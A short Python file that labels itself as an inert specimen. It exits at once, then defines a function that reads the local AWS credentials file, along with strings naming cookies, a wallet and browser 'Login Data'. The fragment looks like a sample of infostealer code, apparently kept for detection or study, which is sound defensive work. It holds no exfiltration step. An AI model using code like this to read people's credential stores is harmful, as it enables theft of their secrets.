raise SystemExit("specimen: not to be run")
import os

def load():
    path = os.path.expanduser("~/.aws/credentials")
    with open(path) as f:
        return f.read()

COOKIES = "cookies"
TITLE = "Log in to see your wallet and your Login Data"
